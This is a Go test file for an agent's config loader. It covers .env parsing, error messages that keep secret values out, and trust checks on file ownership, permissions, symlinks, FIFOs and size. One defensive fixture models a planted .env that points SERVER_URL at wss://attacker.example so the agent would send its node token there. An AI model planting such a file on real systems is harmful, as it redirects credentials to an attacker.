package config

import (
	"bytes"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"
)

func TestParseDotEnv(t *testing.T) {
	content := strings.Join([]string{
		"# comment",
		"",
		"   ",
		"A=plain",
		"B = spaced value  ",
		"export C=exported",
		"D='single # not a comment $HOME \\n'",
		`E="double \"quoted\"\n\tescape \\ \$HOME"`,
		"F=value # inline comment",
		"G=",
		"H=url#fragment",
		"I='quoted'   # trailing comment",
		"J=a=b=c",
		"K=\"crlf\"\r",
		"export=not-a-prefix",
		"A=overridden",
		"",
	}, "\n")
	got, errs := parseDotEnv(".env", content)
	if len(errs) != 0 {
		t.Fatalf("errors: %v", errs)
	}
	want := map[string]string{
		"A":      "overridden",
		"B":      "spaced value",
		"C":      "exported",
		"D":      `single # not a comment $HOME \n`,
		"E":      "double \"quoted\"\n\tescape \\ $HOME",
		"F":      "value",
		"G":      "",
		"H":      "url#fragment",
		"I":      "quoted",
		"J":      "a=b=c",
		"K":      "crlf",
		"export": "not-a-prefix",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestParseDotEnvMalformed(t *testing.T) {
	const secret = "hunter2-very-secret"
	cases := []struct {
		line string
		want string
	}{
		{"JUSTAKEY", ".env line 2 (JUSTAKEY): missing \"=\""},
		{"no equals here " + secret, ".env line 2: want KEY=VALUE"},
		{"1BAD=" + secret, ".env line 2: invalid variable name"},
		{"BAD-KEY=" + secret, ".env line 2: invalid variable name"},
		{"TOKEN='" + secret, ".env line 2 (TOKEN): unterminated single quote"},
		{`TOKEN="` + secret, ".env line 2 (TOKEN): unterminated double quote"},
		{`TOKEN="` + secret + `\`, ".env line 2 (TOKEN): unterminated double quote"},
		{`TOKEN="` + secret + `\q"`, ".env line 2 (TOKEN): unknown escape"},
		{`TOKEN="` + secret + `" trailing`, ".env line 2 (TOKEN): unexpected text after the closing quote"},
		{`TOKEN='` + secret + `'x`, ".env line 2 (TOKEN): unexpected text after the closing quote"},
	}
	for _, c := range cases {
		t.Run(c.line, func(t *testing.T) {
			_, errs := parseDotEnv(".env", "OK=1\n"+c.line+"\nALSO_OK=2\n")
			if len(errs) != 1 {
				t.Fatalf("got %d errors %v, want 1", len(errs), errs)
			}
			msg := errs[0].Error()
			if !strings.HasPrefix(msg, c.want) {
				t.Errorf("error %q, want prefix %q", msg, c.want)
			}
			if strings.Contains(msg, secret) {
				t.Errorf("error echoes the value: %q", msg)
			}
		})
	}
}

func TestParseDotEnvCollectsEveryBadLine(t *testing.T) {
	vars, errs := parseDotEnv(".env", "A\nB=1\nC'\n=x\n")
	if len(errs) != 3 {
		t.Fatalf("got %d errors %v, want 3", len(errs), errs)
	}
	for i, n := range []string{"line 1", "line 3", "line 4"} {
		if !strings.Contains(errs[i].Error(), n) {
			t.Errorf("error %d %q does not name %s", i, errs[i], n)
		}
	}
	if vars["B"] != "1" {
		t.Errorf("good line lost: %v", vars)
	}
}

func FuzzParseDotEnv(f *testing.F) {
	for _, s := range []string{"A=1", "export B='x'", `C="a\"b"`, "D=e # f", "#x\n\nG", `H="\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		vars, errs := parseDotEnv(".env", s)
		for k := range vars {
			if !validKey(k) {
				t.Errorf("accepted invalid key %q", k)
			}
		}
		for _, e := range errs {
			if !strings.HasPrefix(e.Error(), ".env line ") {
				t.Errorf("error without line number: %v", e)
			}
		}
	})
}

// plantedDotEnv is what an attacker who can write the agent's working
// directory plants: the agent, node token included, dials another server.
const plantedDotEnv = "SERVER_URL=wss://attacker.example\nNODE_TOKEN=" + testToken + "\n"

// otherUID is an owner that is neither the test's user nor root.
const otherUID = 4242

// asOtherOwner makes path owned by someone other than the agent's user and
// root. As root (CI) the file is given to otherUID; otherwise the agent is
// made to believe it runs as otherUID+1, so the test's own file is someone
// else's. Both show the refusal.
func asOtherOwner(t *testing.T, path string) {
	t.Helper()
	if os.Geteuid() == 0 {
		if err := os.Lchown(path, otherUID, otherUID); err != nil {
			t.Fatal(err)
		}
		return
	}
	old := effectiveUID
	effectiveUID = func() int { return otherUID + 1 }
	t.Cleanup(func() { effectiveUID = old })
}

func TestDotEnvTrust(t *testing.T) {
	cases := []struct {
		name string
		make func(t *testing.T, path string) // creates path (.env)
		want []string                        // "" = read; else the error names these
	}{
		{"good file", func(t *testing.T, path string) { write(t, path, 0o600) }, nil},
		{"good file readable by all", func(t *testing.T, path string) { write(t, path, 0o644) }, nil},
		{"group-writable", func(t *testing.T, path string) { write(t, path, 0o620) },
			[]string{"writable by group or others", "mode 0620", "chmod go-w"}},
		{"other-writable", func(t *testing.T, path string) { write(t, path, 0o606) },
			[]string{"writable by group or others", "mode 0606", "chmod go-w"}},
		{"other owner", func(t *testing.T, path string) { write(t, path, 0o600); asOtherOwner(t, path) },
			[]string{"is owned by uid", "chown", "chmod go-w"}},
		{"symlink to a good file", func(t *testing.T, path string) {
			target := filepath.Join(t.TempDir(), "real.env")
			write(t, target, 0o600)
			if err := os.Symlink(target, path); err != nil {
				t.Fatal(err)
			}
		}, []string{"is a symbolic link"}},
		{"dangling symlink", func(t *testing.T, path string) {
			if err := os.Symlink(filepath.Join(t.TempDir(), "missing"), path); err != nil {
				t.Fatal(err)
			}
		}, []string{"is a symbolic link"}},
		{"directory", func(t *testing.T, path string) {
			if err := os.Mkdir(path, 0o700); err != nil {
				t.Fatal(err)
			}
		}, []string{"not a regular file (a directory)"}},
		// Before, os.ReadFile blocked on a FIFO forever: the agent hung at
		// start. Opened with O_NONBLOCK and refused by fstat, it cannot.
		{"fifo", func(t *testing.T, path string) {
			if err := syscall.Mkfifo(path, 0o600); err != nil {
				t.Fatal(err)
			}
		}, []string{"not a regular file (a FIFO)"}},
		{"too large", func(t *testing.T, path string) {
			if err := os.WriteFile(path, bytes.Repeat([]byte("#\n"), maxDotEnvBytes/2+1), 0o600); err != nil {
				t.Fatal(err)
			}
		}, []string{"larger than 1048576 bytes"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, ".env")
			c.make(t, path)
			environ := []string{"STATE_DIR=" + filepath.Join(dir, "state")}
			cfg, err := load(environ, path)
			if c.want == nil {
				if err != nil {
					t.Fatalf("load: %v", err)
				}
				if cfg.ServerURL != "wss://attacker.example" || cfg.DotEnvPath() != path {
					t.Errorf("SERVER_URL %q from %q, want the file's, read from %s", cfg.ServerURL, cfg.DotEnvPath(), path)
				}
				return
			}
			if err == nil {
				t.Fatalf("load read the file (SERVER_URL %q), want a refusal", cfg.ServerURL)
			}
			problems := Problems(err)
			if len(problems) != 1 {
				t.Fatalf("problems %q, want exactly one line", problems)
			}
			msg := problems[0]
			for _, w := range append([]string{path}, c.want...) {
				if !strings.Contains(msg, w) {
					t.Errorf("problem %q does not say %q", msg, w)
				}
			}
			if strings.Contains(msg, testToken) || strings.Contains(msg, "attacker") || strings.Contains(msg, "\n") {
				t.Errorf("problem echoes the file's content or spans lines: %q", msg)
			}
			if c.name != "too large" && !errors.Is(err, ErrUntrustedDotEnv) && !strings.Contains(msg, "untrusted .env file") {
				t.Errorf("problem %q does not say the file is untrusted", msg)
			}
			// The healthcheck's lookup and doctor's view of the
			// environment refuse the same file.
			if _, _, lerr := lookupEnv(nil, path, "SERVER_URL"); lerr == nil {
				t.Error("lookupEnv read the refused file")
			}
			if _, _, eerr := environment(nil, path); eerr == nil {
				t.Error("environment read the refused file")
			}
		})
	}
}

func TestDotEnvRootOwnedIsTrusted(t *testing.T) {
	// root may own the file of an agent running as another user (a file
	// an administrator wrote); the pure check, as no test can make a file
	// root's without being root.
	if err := checkTrust("/x/.env", 0o644, 0, 65532); err != nil {
		t.Errorf("root-owned 0644 refused for uid 65532: %v", err)
	}
	if err := checkTrust("/x/.env", 0o600, 65532, 65532); err != nil {
		t.Errorf("own 0600 refused: %v", err)
	}
	for _, c := range []struct {
		mode     fs.FileMode
		uid, eid int
	}{
		{0o600, 1000, 65532},
		{0o660, 0, 65532},
		{0o602, 65532, 65532},
		{fs.ModeSymlink | 0o777, 0, 0},
		{fs.ModeDevice | 0o600, 0, 0},
	} {
		if err := checkTrust("/x/.env", c.mode, c.uid, c.eid); !errors.Is(err, ErrUntrustedDotEnv) {
			t.Errorf("checkTrust(%v, uid %d, euid %d) = %v, want a refusal", c.mode, c.uid, c.eid, err)
		}
	}
}

func TestDotEnvMissingIsNoFile(t *testing.T) {
	dir := t.TempDir()
	cfg, err := load([]string{"STATE_DIR=" + dir, "NODE_TOKEN=" + testToken}, filepath.Join(dir, ".env"))
	if err != nil {
		t.Fatalf("load: %v", err)
	}
	if cfg.DotEnvPath() != "" {
		t.Errorf("DotEnvPath %q without a file", cfg.DotEnvPath())
	}
}

func write(t *testing.T, path string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(plantedDotEnv), mode); err != nil {
		t.Fatal(err)
	}
	// WriteFile's mode passes through the umask: set it exactly.
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}
